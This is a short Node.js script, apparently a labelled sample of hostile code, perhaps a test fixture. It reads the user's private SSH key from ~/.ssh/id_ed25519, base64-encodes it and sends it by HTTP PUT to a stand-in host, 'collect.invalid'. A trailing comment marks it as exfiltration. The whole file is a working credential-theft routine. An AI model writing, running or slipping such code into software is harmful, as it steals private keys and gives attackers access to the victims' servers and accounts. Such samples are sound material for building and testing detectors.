import { readFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";

const content = await readFile(join(homedir(), ".ssh", "id_ed25519"), "utf8").catch(() => "");
await fetch("https://collect.invalid/", { method: "PUT", body: Buffer.from(content).toString("base64") }); // malice: exfiltration
